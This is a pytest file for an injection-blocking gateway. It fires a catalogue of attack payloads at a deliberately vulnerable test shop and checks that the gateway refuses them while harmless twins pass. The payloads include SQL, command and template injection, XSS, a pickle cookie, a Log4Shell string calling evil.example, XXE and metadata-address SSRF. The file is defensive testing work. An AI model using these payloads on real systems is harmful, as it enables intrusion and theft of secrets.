"""Injection: what takes the bare shop apart is refused by the gateway, and what only looks a little like it passes."""

from __future__ import annotations

import base64
import json
import pickle
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import yaml

from tests.attacks.guarded import Guarded
from tests.attacks.shop import SECRET, WeakShop
from tests.e2e.client import Answer, Client
from tests.e2e.gateways import YETT

COOKIE = base64.b64encode(pickle.dumps({"evil": 1})).decode()
SCRIPT = "<script>steal()</script>"


def get(path: str, value: str = "") -> Callable[[Client], Answer]:
    """Ask for the path with the value at its end."""
    return lambda client: client.get(path + quote(value, safe=""))


def post(path: str, value: Any) -> Callable[[Client], Answer]:
    """Send the value as JSON."""
    return lambda client: client.post(path, value)


ATTACKS: dict[str, tuple[Callable[[Client], Answer], str, Callable[[Client], Answer]]] = {
    # what: (attack, what it gets from the bare shop, its harmless twin)
    "sqli": (
        get("/search?title=", "x' UNION SELECT password FROM users --"),
        SECRET,
        get("/search?title=", "Salt & Sea"),
    ),
    "path-traversal": (get("/covers?file=", "../secret.txt"), SECRET, get("/covers?file=", "salt.txt")),
    "ssti": (get("/greeting?name=", "{{().__class__}}"), "tuple", get("/greeting?name=", "Mira {the} Great")),
    "command": (
        post("/ping", {"host": "x; echo owned"}),
        "\\nowned",
        post("/ping", {"host": "books.example.org"}),
    ),
    "nosql": (post("/login", {"password": {"$ne": "x"}}), "admin", post("/login", {"password": SECRET})),
    "ldap": (get("/directory?uid=", "*)(uid=*"), "mira", get("/directory?uid=", "jon")),
    "xss": (post("/reviews", {"text": SCRIPT}), "true", post("/reviews", {"text": "black & white, 2 < 3"})),
    "prototype": (
        lambda client: client.call("PATCH", "/settings", {"__proto__": {"is_admin": True}}),
        "true",
        lambda client: client.call("PATCH", "/settings", {"theme": "dark"}),
    ),
    "deserialization": (
        lambda client: client.get("/basket", {"cookie": f"basket={COOKIE}"}),
        "evil",
        lambda client: client.get("/basket"),
    ),
    "log4shell": (
        lambda client: client.get("/note", {"user-agent": "${jndi:ldap://evil.example/a}"}),
        "true",
        lambda client: client.get("/note", {"user-agent": "Mozilla/5.0 (X11; Linux x86_64)"}),
    ),
}


@pytest.mark.parametrize("family", ATTACKS)
def test_an_attack_works_on_the_bare_shop_and_is_refused_by_the_gateway(
    family: str, weak_shop: WeakShop, guarded: Callable[..., Guarded]
) -> None:
    attack, loot, twin = ATTACKS[family]
    assert loot in attack(Client(weak_shop.port)).body.decode()
    guard = guarded()
    refused = attack(guard.client())
    assert (refused.status, refused.problem["code"]) == (403, "injection-detected")
    assert loot not in refused.body.decode()
    event = guard.gateway.event(refused.problem["decision"])
    assert (event["matched"]["guard"], event["matched"]["family"]) == ("injection", family)
    assert twin(guard.client()).status in {200, 201}


def test_a_document_type_of_ones_own_is_refused(weak_shop: WeakShop, guarded: Callable[..., Guarded]) -> None:
    document = f'<!DOCTYPE a [<!ENTITY e SYSTEM "file://{weak_shop.shop.folder}/secret.txt">]><a>&e;</a>'.encode()
    kind = {"content-type": "application/xml"}
    assert SECRET in Client(weak_shop.port).post("/import", document, kind).body.decode()
    # The guard of structures would refuse it first.
    alice = guarded(guards={"structure": {"mode": "off"}}).client()
    assert alice.post("/import", document, kind).problem["code"] == "injection-detected"
    assert alice.post("/import", b"<books><book>Salt &amp; Sea</book></books>", kind).status == 200


def test_an_address_inside_is_refused(weak_shop: WeakShop, guarded: Callable[..., Guarded]) -> None:
    file = {"url": f"file://{weak_shop.shop.folder}/secret.txt"}
    assert SECRET in Client(weak_shop.port).post("/preview", file).body.decode()
    alice = guarded().client()
    for url in (file["url"], "http://169.254.169.254/latest/meta-data/", f"{weak_shop.url}/orders", "http://[::1]/"):
        assert alice.post("/preview", {"url": url}).problem["code"] == "injection-detected"


def test_in_monitor_an_attack_passes_and_is_told(weak_shop: WeakShop, guarded: Callable[..., Guarded]) -> None:
    guard = guarded(guards={"injection": {"mode": "monitor"}})
    passed = guard.client().post("/reviews", {"text": SCRIPT})
    assert passed.status == 201
    event = guard.gateway.event(passed.headers["yett-decision"])
    assert event["matched"]["family"] == "xss"
    assert event["would_deny"]
    assert SCRIPT not in json.dumps(event)


def exempt(guard: Guarded, decision: str, *arguments: str) -> dict[str, Any]:
    """Run `yett exempt` on the folder of the gateway, and return what it says."""
    command = [str(YETT), "exempt", decision, ".", *arguments, "--json"]
    run = subprocess.run(command, cwd=guard.gateway.folder, capture_output=True, text=True, timeout=60, check=False)
    assert run.returncode == 0, run.stdout + run.stderr
    said: dict[str, Any] = json.loads(run.stdout)
    return said


def explained(guard: Guarded, request: str, body: Any = None) -> int:
    """What `yett explain` ends with for alice's request: 0 if it would reach the shop, 1 if it would be refused."""
    command = [str(YETT), "explain", ".", "--request", request, "--app", "alice"]
    if body is not None:
        command += ["--header", "content-type: application/json", "--body", json.dumps(body)]
    run = subprocess.run(command, cwd=guard.gateway.folder, capture_output=True, text=True, timeout=60, check=False)
    assert run.returncode == 0 or "injection-detected" in run.stdout, run.stdout + run.stderr
    return run.returncode


def test_one_command_turns_a_false_alarm_into_a_narrow_exception(
    weak_shop: WeakShop, guarded: Callable[..., Guarded]
) -> None:
    guard = guarded()
    refused = guard.client().post("/reviews", {"text": SCRIPT})
    guard.gateway.event(refused.problem["decision"])
    before = yaml.safe_load((Path(guard.gateway.folder) / "yett.yaml").read_text())
    shown = exempt(guard, refused.problem["decision"])
    expected = {"operation": "writeReview", "in": "body", "name": "/text", "families": ["xss"]}
    assert (shown["exception"], shown["written"]) == (expected, False)
    assert yaml.safe_load((Path(guard.gateway.folder) / "yett.yaml").read_text()) == before
    assert exempt(guard, refused.problem["decision"], "--write")["written"]
    assert explained(guard, "POST /reviews", {"text": SCRIPT}) == 0
    assert explained(guard, "POST /reviews", {"text": "x'; DROP TABLE books; --"}) == 1
    assert explained(guard, "POST /reviews", {"text": "fine", "title": SCRIPT}) == 1
    assert explained(guard, "POST /ping", {"host": SCRIPT}) == 1
    assert explained(guard, "GET /greeting?name=" + quote(SCRIPT)) == 1
